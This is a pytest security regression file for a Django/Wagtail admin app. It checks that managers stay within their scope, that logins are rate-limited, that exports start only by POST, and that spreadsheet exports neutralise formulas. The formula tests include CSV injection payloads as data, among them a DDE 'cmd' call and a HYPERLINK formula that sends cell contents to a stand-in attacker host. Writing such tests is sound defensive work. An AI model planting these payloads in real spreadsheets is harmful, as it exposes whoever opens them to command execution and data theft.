"""Issue 16, closed at its causes: each test here failed before its fix (see docs/testing.md).

The people ViewSet offers only the views we mean to offer, each checking ``can_manage_person``;
only superusers grant privileges; Site history shows trainers only shared content; every login
form is rate-limited; spreadsheets never run formulas; the team form, editing-session pings and the
template chooser stay inside the scope; exports start by POST.
"""

import ast
import csv
import inspect
import io
import textwrap
import zipfile

import pytest
from django.contrib import auth
from django.contrib.auth.models import Group
from django.core.cache import cache
from django.urls import NoReverseMatch, reverse
from wagtail.log_actions import log

from accounts.admin_forms import PHONE_TAKEN, PHONE_UNAVAILABLE, PersonEditForm
from accounts.checks import iter_url_patterns
from accounts.models import User
from accounts.ratelimit import LIMITED_VIEWS
from accounts.spreadsheets import csv_bytes, neutralise_formula
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

NEW_PASSWORD = "Mat-khau-cua-ke-gian-2026"


@pytest.fixture(autouse=True)
def _fresh_cache():
    cache.clear()
    yield
    cache.clear()


def person_post(person, **extra):
    data = {
        "username": person.username,
        "full_name": person.full_name,
        "phone": person.phone or "",
        "email": person.email or "",
        "position": "",
        "commune": person.commune_id or "",
        "is_active": "on",
        "password1": NEW_PASSWORD,
        "password2": NEW_PASSWORD,
    }
    data.update(extra)
    return data


# --- 1. the people ViewSet: only our views, each checking can_manage_person ------------------------


def test_people_viewset_offers_no_copy_usage_or_inspect_view(client, world):
    for name in ("copy", "usage", "inspect"):
        with pytest.raises(NoReverseMatch):
            reverse(f"wagtailusers_users:{name}", args=[world.superuser.pk])
    client.force_login(world.commune_manager_a1)
    for path in (f"/admin/users/copy/{world.superuser.pk}/", f"/admin/users/usage/{world.superuser.pk}/"):
        response = client.post(path, person_post(world.superuser, is_superuser="on"))
        assert response.status_code == 404
    world.superuser.refresh_from_db()
    assert world.superuser.check_password(world.password)


def test_a_commune_manager_cannot_edit_a_province_manager_living_in_their_commune(client, world):
    assert world.manager_a.commune == world.commune_a1  # in the commune manager's commune, higher privilege
    client.force_login(world.commune_manager_a1)
    for name in ("edit", "delete", "history"):
        assert client.get(reverse(f"wagtailusers_users:{name}", args=[world.manager_a.pk])).status_code == 404
    response = client.post(reverse("wagtailusers_users:edit", args=[world.manager_a.pk]), person_post(world.manager_a))
    assert response.status_code == 404
    world.manager_a.refresh_from_db()
    assert world.manager_a.check_password(world.password)
    # The listing still names them (they live in the commune) but links nowhere.
    listing = client.get(reverse("wagtailusers_users:index")).content.decode()
    assert world.manager_a.full_name in listing
    assert reverse("wagtailusers_users:edit", args=[world.manager_a.pk]) not in listing
    assert reverse("wagtailusers_users:edit", args=[world.cadre.pk]) in listing


def test_a_manager_cannot_edit_themselves_into_a_superuser(client, world):
    client.force_login(world.commune_manager_a1)
    me = world.commune_manager_a1
    response = client.post(reverse("wagtailusers_users:edit", args=[me.pk]), person_post(me, is_superuser="on"))
    assert response.status_code == 404
    url = reverse("wagtailusers_users:edit", args=[world.cadre.pk])
    managers = Group.objects.get(name="Managers")
    response = client.post(url, person_post(world.cadre, groups=[managers.pk]))
    assert response.status_code == 200  # not a choice
    response = client.post(url, person_post(world.cadre, is_superuser="on", is_staff="on"))
    assert response.status_code == 302
    world.cadre.refresh_from_db()
    me.refresh_from_db()
    assert not (world.cadre.is_superuser or world.cadre.is_staff or me.is_superuser)
    assert not world.cadre.groups.filter(name="Managers").exists()


def test_a_person_form_built_for_no_one_offers_no_privilege():
    form = PersonEditForm(instance=User(username="x"))
    assert not {"is_superuser", "is_staff", "user_permissions"} & set(form.fields)
    assert set(form.fields["groups"].queryset.values_list("name", flat=True)) == {"Cadres", "Team leaders"}
    assert not form.fields["commune"].queryset.exists()


def test_bulk_actions_skip_people_a_manager_may_not_manage(client, world):
    client.force_login(world.commune_manager_a1)
    url = reverse("wagtail_bulk_action", args=["accounts", "user", "set_active_state"])
    ids = [world.manager_a.pk, world.cadre.pk]
    query = "?" + "&".join(f"id={pk}" for pk in ids)
    page = client.get(url + query).content.decode()
    assert world.manager_a.full_name not in page
    client.post(url + query, {"mark_as_active": "False"})
    world.manager_a.refresh_from_db()
    world.cadre.refresh_from_db()
    assert world.manager_a.is_active and not world.cadre.is_active


# --- 2. Site history: trainers see shared content only ------------------------------------------------


def test_trainers_read_only_shared_content_in_site_history(client, world):
    from quizzes.models import QuestionBank

    bank = QuestionBank.objects.create(name="Ngân hàng câu hỏi chung")
    log(bank, "wagtail.edit", user=world.trainer)
    log(world.commune_b1, "wagtail.edit", user=world.manager_b)  # a locality of another province
    log(world.cadre, "wagtail.edit", user=world.manager_a)  # a person
    results = reverse("wagtailadmin_reports:site_history_results")

    client.force_login(world.trainer)
    page = client.get(results).content.decode()
    assert "Ngân hàng câu hỏi chung" in page
    for secret in (world.commune_b1.name, world.cadre.full_name, world.manager_b.full_name, world.manager_a.full_name):
        assert secret not in page
    client.force_login(world.manager_a)
    assert client.get(results).status_code == 403
    client.force_login(world.superuser)
    page = client.get(results).content.decode()
    assert world.commune_b1.name in page and world.cadre.full_name in page


# --- 3. every login form is rate-limited --------------------------------------------------------------


def test_wagtails_util_login_is_rate_limited(client, world, settings):
    settings.KNS_LOGIN_RATE_LIMIT = 3
    url = reverse("wagtailcore_login")
    for n in range(3):
        response = client.post(url, {"username": f"thu{n}", "password": "sai"}, REMOTE_ADDR="10.9.9.9")
        assert response.status_code == 200
    response = client.post(url, {"username": "cadre_a1", "password": world.password}, REMOTE_ADDR="10.9.9.9")
    assert response.status_code == 429
    assert "_auth_user_id" not in client.session


_LOGIN_CALLS: dict = {}


def _calls_authenticate_or_login(func, depth=0) -> bool:
    """Whether ``func`` calls django.contrib.auth's ``authenticate`` or ``login``, itself or through a
    module-level function it calls (three levels deep)."""
    if func in _LOGIN_CALLS:
        return _LOGIN_CALLS[func]
    _LOGIN_CALLS[func] = False  # recursion guard
    try:
        source = textwrap.dedent(inspect.getsource(func))
        tree = ast.parse(source)
    except (OSError, TypeError, SyntaxError):
        return False
    targets = {auth.authenticate, auth.login}
    names = func.__globals__
    found = False
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        callee = node.func
        if isinstance(callee, ast.Name):
            target = names.get(callee.id)
            if target in targets:
                found = True
            elif inspect.isfunction(target) and depth < 3:
                found = _calls_authenticate_or_login(target, depth + 1)
        elif isinstance(callee, ast.Attribute) and isinstance(callee.value, ast.Name):
            if names.get(callee.value.id) is auth and callee.attr in ("authenticate", "login"):
                found = True
        if found:
            break
    _LOGIN_CALLS[func] = found
    return found


def _functions_of(callback):
    view_class = getattr(callback, "view_class", None)
    if view_class is not None:
        classes = list(view_class.__mro__)
        form_class = getattr(view_class, "form_class", None)
        if isinstance(form_class, type):  # a login form authenticates in its clean()
            classes += list(form_class.__mro__)
        for klass in classes:
            if klass.__module__.startswith(("django.views.", "django.forms.")) or klass is object:
                continue
            for value in vars(klass).values():
                if inspect.isfunction(value):
                    yield value
        return
    func = callback
    while func is not None:
        if inspect.isfunction(func):
            yield func
        func = getattr(func, "__wrapped__", None)


def login_views() -> set[str]:
    return {
        name
        for _route, name, callback in iter_url_patterns()
        if name and any(_calls_authenticate_or_login(func) for func in _functions_of(callback))
    }


def test_every_view_that_logs_someone_in_is_rate_limited():
    found = login_views()
    # The walk must find the login forms we know of, Wagtail's own included...
    assert {"accounts:login", "accounts:code_login", "wagtailadmin_login", "wagtailcore_login"} <= found
    # ...and every one it finds must be under the per-address limit.
    assert found - LIMITED_VIEWS == set(), "add these to accounts.ratelimit.LIMITED_VIEWS"


# --- 4. one helper against formulas, the certificate ZIP listing included -----------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("+84912345678", "+84912345678"),
        ("-12.5", "-12.5"),
        ("Nguyễn Văn A", "Nguyễn Văn A"),
    ],
)
def test_neutralise_formula(text, shown):
    assert neutralise_formula(text) == shown


def test_our_csv_writer_neutralises_every_cell():
    rows = list(csv.reader(io.StringIO(csv_bytes(["Tên"], [["=1+2", "+84912345678"]]).decode("utf-8-sig"))))
    assert rows == [["Tên"], ["'=1+2", "+84912345678"]]


def test_the_certificate_zip_listing_neutralises_formulas(client, world, django_capture_on_commit_callbacks):
    from certificates.models import CertificateJob
    from tests.certificates.helpers import issue

    world.cadre.full_name = '=HYPERLINK("http://ke-gian.example/?"&A1,"Bấm")'
    world.cadre.save()
    issue(django_capture_on_commit_callbacks, world.cadre, title="@Khóa một")
    client.force_login(world.manager_a)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("certificate_tools:zip"), {"commune": world.commune_a1.pk})
    job = CertificateJob.objects.get(kind="zip")
    response = client.get(reverse("certificate_tools:job_download", args=[job.pk]))
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    rows = list(csv.reader(io.StringIO(archive.read("danh-sach.csv").decode("utf-8-sig"))))
    assert rows[1][1] == "'" + world.cadre.full_name
    assert rows[1][2].startswith("'@")


def test_the_site_history_export_neutralises_formulas(client, world):
    from quizzes.models import QuestionBank

    bank = QuestionBank.objects.create(name='=HYPERLINK("http://ke-gian.example","Bấm")')
    log(bank, "wagtail.edit", user=world.trainer)
    client.force_login(world.superuser)
    response = client.get(reverse("wagtailadmin_reports:site_history") + "?export=csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    labels = [row[1] for row in csv.reader(io.StringIO(text))][1:]
    assert "'" + bank.name in labels


# --- 5. team members, editing-session pings and the template chooser stay in scope --------------------


def team_post(team, member, commune=None):
    return {
        "commune": (commune or team.commune).pk,
        "name": team.name,
        "village": team.village or "",
        "memberships-TOTAL_FORMS": "1",
        "memberships-INITIAL_FORMS": "0",
        "memberships-MIN_NUM_FORMS": "0",
        "memberships-MAX_NUM_FORMS": "1000",
        "memberships-0-user": member.pk,
        "memberships-0-role": "member",
        "memberships-0-id": "",
        "memberships-0-ORDER": "0",
        "memberships-0-DELETE": "",
    }


def test_team_form_refuses_and_never_names_people_outside_the_scope(client, world):
    outsider = UserFactory(full_name="Vũ Thị Ngoài Tỉnh", commune=world.commune_b1, phone="0977111222")
    client.force_login(world.manager_a)
    response = client.post(reverse("teams:edit", args=[world.team_a1.pk]), team_post(world.team_a1, outsider))
    assert response.status_code == 200
    page = response.content.decode()
    assert outsider.full_name not in page and outsider.username not in page
    assert not world.team_a1.memberships.filter(user=outsider).exists()


def ping(client, person, session_id=0):
    url = reverse("wagtailadmin_editing_sessions:ping", args=["accounts", "user", str(person.pk), session_id])
    return client.post(url)


def test_editing_session_pings_answer_only_for_people_the_user_may_manage(client, world):
    client.force_login(world.manager_a)
    assert ping(client, world.cadre).status_code == 200
    client.force_login(world.commune_manager_a1)
    assert ping(client, world.manager_a).status_code == 404  # in the commune, higher privilege
    client.force_login(world.manager_b)
    assert ping(client, world.cadre).status_code == 404
    assert ping(client, User(pk=987654)).status_code == 404


def test_the_certificate_template_chooser_does_not_answer_managers(client, world):
    url = reverse("wagtailsnippetchoosers_certificates_certificatetemplate:choose")
    client.force_login(world.manager_a)
    response = client.get(url)
    # Refused: Wagtail turns the refusal into a redirect to the dashboard with a message.
    assert response.status_code == 302 and response["Location"] == reverse("wagtailadmin_home")
    client.force_login(world.trainer)
    assert client.get(url).status_code == 200


# --- 6. no GET changes state; the phone message ------------------------------------------------------


def test_an_export_link_followed_by_get_starts_nothing(client, world):
    from reports.models import ExportJob

    client.force_login(world.manager_a)
    url = reverse("reports_admin:commune", args=[world.commune_a1.pk])
    response = client.get(url + "?export=csv&table=cadres")
    assert response.status_code == 200 and "attachment" not in response.get("Content-Disposition", "")
    assert 'name="export" value="csv"' in response.content.decode()
    assert not ExportJob.objects.exists()
    response = client.post(url, {"export": "csv", "table": "cadres"})
    assert "attachment" in response["Content-Disposition"]
    assert ExportJob.objects.count() == 1


@pytest.mark.parametrize("listing", ["wagtailusers_users:index", "teams:index"])
def test_a_listing_export_starts_by_post_and_a_get_only_shows_the_listing(client, world, listing):
    from wagtail.models import ModelLogEntry

    from accounts import audit

    client.force_login(world.manager_a)
    url = reverse(listing)
    response = client.get(url + "?export=csv")
    assert response.status_code == 200 and "attachment" not in response.get("Content-Disposition", "")
    assert not ModelLogEntry.objects.filter(action=audit.EXPORT).exists()

    client.logout()
    csrf_client = type(client)(enforce_csrf_checks=True)
    csrf_client.force_login(world.manager_a)
    assert csrf_client.post(url + "?export=csv").status_code == 403  # no CSRF token: refused
    assert not ModelLogEntry.objects.filter(action=audit.EXPORT).exists()

    client.force_login(world.manager_a)
    assert client.post(url + "?export=pdf").status_code == 400
    response = client.post(url + "?export=csv")
    assert "attachment" in response["Content-Disposition"]
    b"".join(response.streaming_content)
    assert ModelLogEntry.objects.filter(action=audit.EXPORT, user=world.manager_a).count() == 1

    # The export by POST holds the listing's scope: province B's manager takes out nobody of province A.
    client.force_login(world.manager_b)
    response = client.post(url + "?export=csv")
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    for outside in (world.cadre.username, world.cadre.full_name, world.team_a1.name):
        assert outside not in content


def test_the_people_listing_download_items_post(client, world):
    client.force_login(world.manager_a)
    page = client.get(reverse("wagtailusers_users:index")).content.decode()
    assert page.count('data-action="w-action#post"') >= 2
    assert 'data-w-action-url-value="/admin/users/?export=csv"' in page
    response = client.post(reverse("wagtailusers_users:index") + "?export=csv")
    assert 'filename="danh-sach-can-bo.csv"' in response["Content-Disposition"]


def test_the_phone_taken_message_names_the_holder_only_to_those_who_may_see_them(client, world):
    outsider = UserFactory(full_name="Vũ Thị Ngoài Tỉnh", commune=world.commune_b1, phone="0977111222")
    world.leader.phone = "0977333444"
    world.leader.save()
    client.force_login(world.manager_a)
    url = reverse("wagtailusers_users:edit", args=[world.cadre.pk])
    page = client.post(url, person_post(world.cadre, phone="0977 111 222")).content.decode()
    assert str(PHONE_UNAVAILABLE) in page and str(PHONE_TAKEN) not in page
    assert outsider.full_name not in page
    page = client.post(url, person_post(world.cadre, phone="0977 333 444")).content.decode()
    assert str(PHONE_TAKEN) in page
